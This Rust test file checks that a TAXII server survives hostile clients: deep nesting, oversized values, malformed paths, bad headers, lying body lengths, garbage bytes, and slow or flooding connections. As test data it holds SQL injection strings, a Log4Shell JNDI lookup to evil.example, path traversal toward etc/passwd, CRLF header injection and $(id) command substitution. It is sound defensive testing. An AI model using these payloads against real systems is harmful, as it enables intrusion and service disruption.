//! Senders who mean no good, or know no better. After each of them the server still answers everybody else.

use std::io;

use serde_json::{Value, json};
use taxii_tests::collection::{Collection, encoded};
use taxii_tests::http::{Request, Response, TAXII};
use taxii_tests::objects::{envelope, id, id_of, indicator, with};
use taxii_tests::site::Site;

/// How deep the deep ones are.
const DEEP: usize = 10_000;

fn still_answers(collection: &Collection<'_>) {
    collection.get("objects/?limit=1").send().expect(200);
}

/// Refused politely, or not talked to any more: both end the matter.
fn is_refused(answer: &io::Result<Response>) -> bool {
    answer.as_ref().map_or(true, |answer| (400..500).contains(&answer.status))
}

fn post_text(collection: &Collection<'_>, body: impl Into<Vec<u8>>) -> Response {
    collection.post(&[]).body(TAXII, body).send()
}

fn with_nested(inside: &str) -> String {
    let object = with(indicator(), "x_nested", "HERE").to_string();
    format!("{{\"objects\":[{}]}}", object.replace("\"HERE\"", inside))
}

/// TX-SEC-01, AMB-32: depth is bounded, wherever it is; nothing of it is stored and no stack overflows.
fn nesting_is_bounded(site: &Site) {
    let collection = site.collection();
    let lists = format!("{}{}", "[".repeat(DEEP), "]".repeat(DEEP));
    let objects = format!("{}1{}", "{\"a\":".repeat(DEEP), "}".repeat(DEEP));
    for whole in [lists.clone(), objects.clone(), "[".repeat(DEEP), "{\"a\":".repeat(DEEP)] {
        post_text(&collection, whole).expect(422);
    }
    for inside in [&lists, &objects] {
        let answer = post_text(&collection, with_nested(inside));
        let failed = answer.status == 202 && answer.json()["failure_count"] == 1;
        assert!(answer.status == 422 || failed, "{answer}");
    }
    assert!(collection.records().is_empty());
    let fair = format!("{}7{}", "[".repeat(60), "]".repeat(60));
    assert_eq!(post_text(&collection, with_nested(&fair)).expect(202).json()["success_count"], 1);
    assert!(collection.get("objects/").send().text().contains(&fair));
}

/// TX-SEC-01, promise 3: a megabyte in one string, many members, many items: taken as it is and given back.
fn large_values_are_values(site: &Site) {
    let collection = site.collection();
    let megabyte = "x".repeat(1 << 20);
    let members: serde_json::Map<String, Value> = (0..10_000).map(|n| (format!("x_{n}"), json!(n))).collect();
    let objects = [
        with(indicator(), "name", megabyte.as_str()),
        with(indicator(), "x_long", json!({ megabyte.as_str(): 1 })),
        with(indicator(), "x_many", members),
        with(indicator(), "x_list", vec![0; 100_000]),
    ];
    collection.add_each(&objects);
    for object in &objects {
        let page = collection.page(&format!("objects/{}/", id_of(object)));
        assert!(page.entries == std::slice::from_ref(object), "{} came back changed", id_of(object));
    }
}

/// TX-SEC-01, AMB-06, AMB-22: ids of a megabyte, with controls, quotes or bytes of zero are never stored; odd
/// types are answered.
fn impossible_names_are_not_stored(site: &Site) {
    let collection = site.collection();
    let long = "a".repeat(1 << 20);
    for name in [long.as_str(), "a\u{0}b", "a\"b", "a'; DROP TABLE object; --", "../..", "é", "A B", "-"] {
        let odd_id = with(indicator(), "id", format!("indicator--{name}"));
        let answer = collection.post(&[odd_id]).send();
        let failed = answer.status == 202 && answer.json()["failure_count"] == 1;
        assert!(failed || answer.status == 422, "{name:.20}: {answer}");
        let elsewhere = site.collection();
        let odd_type = with(with(indicator(), "type", name), "id", id(name));
        let answer = elsewhere.post(&[odd_type]).send();
        assert!(matches!(answer.status, 202 | 422), "{name:.20}: {answer}");
        still_answers(&elsewhere);
    }
    assert!(collection.records().is_empty());
}

/// What to put where a name belongs in a path.
fn impossible_paths() -> Vec<String> {
    let mut names: Vec<String> = [
        "%00",
        "%0d%0aSet-Cookie:%20a=b",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%5c..%5c",
        "%25",
        "%F0%9F%98%80",
        "%3Cscript%3E",
        "'%20OR%201=1--",
        "%7B%7D",
        "indicator--",
        "--",
        "*",
        "indicator",
        "~",
        "null",
        "indicator--00000000-0000-0000-0000-00000000000g",
        "a:b@c",
        "$(id)",
        "indicator--1--2",
    ]
    .map(str::to_owned)
    .to_vec();
    names.push("a".repeat(5000));
    names.push(format!("indicator--{}", "0".repeat(5000)));
    names
}

/// TX-ONE-05, TX-STS-03, TX-COL-11, TX-SEC-01: what cannot be there is not found, on every path with a name in
/// it; nothing of it becomes a header or a file.
fn impossible_names_are_not_found(site: &Site) {
    let collection = site.collection();
    for name in impossible_paths() {
        for (method, target) in [
            ("GET", collection.object(&name)),
            ("GET", collection.versions(&name)),
            ("DELETE", collection.object(&name)),
            ("GET", format!("/api1/status/{name}/")),
            ("GET", format!("/api1/collections/{name}/")),
            ("GET", format!("/api1/collections/{name}/objects/")),
        ] {
            let answer = site.request(method, &target).send();
            assert_eq!(answer.status, 404, "{method} {target:.200}: {answer}");
            assert_eq!(answer.header("Set-Cookie"), None);
        }
    }
    for name in ["%ff", "%c0%af", "%zz", "%"] {
        let answer = site.get(&collection.object(name)).send_unchecked();
        assert!(matches!(answer.status, 400 | 404), "{name}: {answer}");
    }
    still_answers(&collection);
}

/// TX-SEC-03: a thousand ids are looked up, ten thousand are looked up or refused; neither hurts.
fn long_filters_are_answered_or_refused(site: &Site) {
    let collection = site.collection();
    let object = indicator();
    collection.add(std::slice::from_ref(&object));
    let filter = |count: usize| {
        let mut ids: Vec<String> = (1..count).map(|_| id("indicator")).collect();
        ids.push(id_of(&object).to_owned());
        collection.get(&format!("objects/?match[id]={}", ids.join(",")))
    };
    let found = filter(1000).send().expect(200).json();
    assert_eq!(found["objects"], json!([object]));
    for endless in [filter(10_000), collection.get(&format!("objects/?x={}", "y".repeat(10 << 20)))] {
        match endless.try_send() {
            Ok(answer) if answer.status == 200 => {
                assert_eq!(answer.json()["objects"], json!([object]));
            }
            answer => assert!(is_refused(&answer), "{answer:?}"),
        }
        still_answers(&collection);
    }
    let many = "match[type]=indicator&".repeat(1000);
    collection.get(&format!("objects/?{many}")).send().expect(400);
}

/// TX-SEC-01, TX-SEC-05: values that mean something to some database, shell or page.
fn hostile_values_are_only_text(site: &Site) {
    let collection = site.collection();
    collection.add(&[indicator()]);
    for value in [
        "' OR '1'='1",
        "'; DROP TABLE object; --",
        "\" OR \"\"=\"",
        "%",
        "_%",
        "*",
        "indicator' UNION SELECT * FROM account --",
        "\u{0}",
        "\u{202e}",
        "${jndi:ldap://evil.example/a}",
        "<script>alert(1)</script>",
        "indicator\r\nX-Evil: 1",
        "\\",
        "{{7*7}}",
    ] {
        let value = encoded(value);
        for filter in ["match[id]", "match[type]"] {
            let answer = collection.get(&format!("objects/?{filter}={value}")).send().expect(200);
            assert_eq!(answer.json(), json!({}), "{filter}={value}");
            assert_eq!(answer.header("X-Evil"), None);
        }
        for parameter in ["next", "limit", "added_after", "match[version]", "match[spec_version]"] {
            collection.get(&format!("objects/?{parameter}={value}")).send().expect(400);
        }
    }
}

/// TX-SEC-01, TX-CN-08: headers nobody should send.
fn hostile_headers_do_no_harm(site: &Site) {
    let collection = site.collection();
    let ask = collection.get("objects/");
    for accept in [";", ";;;", "/", "*/", "a/b;c", "*/*;q=x", "*/*;q=2", "application/taxii+json;version=", "\"", "é"]
    {
        let answer = ask.clone().accept(accept).send();
        assert!(matches!(answer.status, 200 | 400 | 406), "{accept}: {answer}");
    }
    ask.clone().accept(&"text/x, ".repeat(2000)).send().expect(406);
    for (name, value) in [
        ("Range", "items=0-1"),
        ("Range", "bytes=0-1"),
        ("If-None-Match", "rubbish"),
        ("If-Modified-Since", "never"),
        ("Accept-Encoding", ";;q=,x"),
        ("X-Forwarded-For", "' OR 1=1"),
        ("X-HTTP-Method-Override", "DELETE"),
        ("Cookie", "a=b; c"),
    ] {
        ask.clone().header(name, value).send().expect(200);
    }
    for endless in [ask.clone().header("X-Long", &"x".repeat(1 << 20)), many_headers(ask, 5000)] {
        let answer = endless.try_send();
        let served = answer.as_ref().is_ok_and(|answer| answer.status == 200);
        assert!(served || is_refused(&answer), "{answer:?}");
        still_answers(&collection);
    }
}

fn many_headers(request: Request, count: usize) -> Request {
    (0..count).fold(request, |request, n| request.add_header(&format!("X-{n}"), "1"))
}

/// A POST that lies about its body.
struct Lie<'a> {
    what: &'a str,
    headers: Vec<(&'a str, &'a str)>,
    body: &'a [u8],
}

impl Lie<'_> {
    /// Sends the head with these headers and the body as it is, after which nothing more comes.
    fn tell(&self, post: &Request) -> io::Result<Response> {
        let plain = post.clone().without("Connection");
        let request = self.headers.iter().fold(plain, |request, (name, value)| request.add_header(name, value));
        let mut connection = request.connect();
        // The server may close at any point; what counts is what it answers, if it does.
        drop(connection.write(&[request.head().as_slice(), self.body].concat()));
        drop(connection.finish_writing());
        connection.read("POST")
    }
}

/// TX-SEC-01, AMB-28: lengths and codings that lie or contradict each other: refused, nothing stored.
fn lies_about_the_length_are_not_believed(site: &Site) {
    let collection = site.collection();
    let post = collection.post(&[]);
    let body = envelope(&[indicator()]).to_string().into_bytes();
    let [exact, more, less] = [0, 1, -1].map(|n| (body.len() as i64 + n).to_string());
    let chunk = [format!("{:x}\r\n", body.len()).as_bytes(), &body, b"\r\n"].concat();
    let chunked = ("Transfer-Encoding", "chunked");
    let length = |text| vec![("Content-Length", text)];
    let lie = |what, headers, body| Lie { what, headers, body };
    for lie in [
        lie("too great", length(more.as_str()), body.as_slice()),
        lie("too small", length(&less), &body),
        lie("none", vec![], &body),
        lie("negative", length("-1"), &body),
        lie("no number", length("ten"), &body),
        lie("two", vec![("Content-Length", &exact), ("Content-Length", &less)], &body),
        lie("chunks cut off", vec![chunked], &chunk[..chunk.len() / 2]),
        lie("no last chunk", vec![chunked], &chunk),
        lie("a size that is none", vec![chunked], b"xyz\r\nabc\r\n0\r\n\r\n"),
        lie("an unknown coding", vec![("Transfer-Encoding", "rot13")], &body),
    ] {
        let answer = lie.tell(&post);
        assert!(is_refused(&answer), "{}: {answer:?}", lie.what);
        still_answers(&collection);
    }
    assert!(collection.records().is_empty(), "nothing of it was stored");
    let honest = lie("nothing", length(&exact), &body).tell(&post);
    assert_eq!(honest.expect("an answer").status, 202, "the same without the lie");
}

/// TX-SEC-01: what is no HTTP at all.
fn what_is_no_http_is_not_answered_with_a_crash(site: &Site) {
    let collection = site.collection();
    let garbage: [&[u8]; 7] = [
        b"\r\n\r\n\r\n",
        b"GET\r\n\r\n",
        b"GET / HTTP/9.9\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        b"GET /taxii2/ HTTP/1.1\r\nHost: a\r\nno colon\r\n\r\n",
        b"GET /a b/ HTTP/1.1\r\nHost: a\r\n\r\n",
        b"\x00\xff\x00\xff",
    ];
    for bytes in garbage {
        let mut connection = collection.get("objects/").connect();
        drop(connection.write(bytes));
        drop(connection.finish_writing());
        let answer = connection.read("GET");
        assert!(is_refused(&answer), "{bytes:?}: {answer:?}");
        still_answers(&collection);
    }
}

/// TX-SEC-01, promise 2: a body that comes slowly holds up nobody; when it has come it is taken, and when its
/// sender goes away half-way nothing is.
fn a_slow_body_holds_up_nobody(site: &Site) {
    let collection = site.collection();
    let object = indicator();
    let body = envelope(std::slice::from_ref(&object)).to_string().into_bytes();
    let length = body.len().to_string();
    let post = collection.post(&[]).header("Content-Length", &length);
    let mut slow: Vec<_> = (0..20).map(|_| post.connect()).collect();
    for connection in &mut slow {
        connection.write(&post.head()).expect("the head is read");
        connection.write(&body[..body.len() / 2]).expect("a part is read");
    }
    still_answers(&collection);
    collection.add(&[indicator()]);
    assert_eq!(collection.records().len(), 1, "half an object is none");
    let mut one = slow.pop().expect("one of them");
    drop(slow);
    for byte in &body[body.len() / 2..] {
        one.write(std::slice::from_ref(byte)).expect("each byte is read");
    }
    assert_eq!(one.read("POST").expect("an answer").status, 202);
    assert_eq!(collection.records().len(), 2);
    site.get(&collection.object(id_of(&object))).send().expect(200);
}

/// TX-SEC-01: connections that say nothing hold up nobody.
fn silent_connections_hold_up_nobody(site: &Site) {
    let collection = site.collection();
    let silent: Vec<_> = (0..200).map(|_| collection.get("objects/").connect()).collect();
    still_answers(&collection);
    collection.add(&[indicator()]);
    assert_eq!(silent.len(), 200);
    drop(silent);
    still_answers(&collection);
}

/// Promise 2: a great many objects of which none can be stored: answered, not suffered.
fn a_flood_of_rubbish_is_answered(site: &Site) {
    let collection = site.collection();
    let nothings = format!("{{\"objects\":[{}]}}", vec!["{}"; 100_000].join(","));
    post_text(&collection, nothings).expect(422);
    let bad: Vec<Value> = (0..2000).map(|n| json!({"type": "x", "id": format!("x--{n}")})).collect();
    let status = collection.post(&bad).send().expect(202).json();
    assert_eq!(status["failure_count"], 2000);
    assert!(collection.records().is_empty());
}

taxii_tests::on_every_site!(
    nesting_is_bounded,
    large_values_are_values,
    impossible_names_are_not_stored,
    impossible_names_are_not_found,
    long_filters_are_answered_or_refused,
    hostile_values_are_only_text,
    hostile_headers_do_no_harm,
    lies_about_the_length_are_not_believed,
    what_is_no_http_is_not_answered_with_a_crash,
    a_slow_body_holds_up_nobody,
    silent_connections_hold_up_nobody,
    a_flood_of_rubbish_is_answered,
);
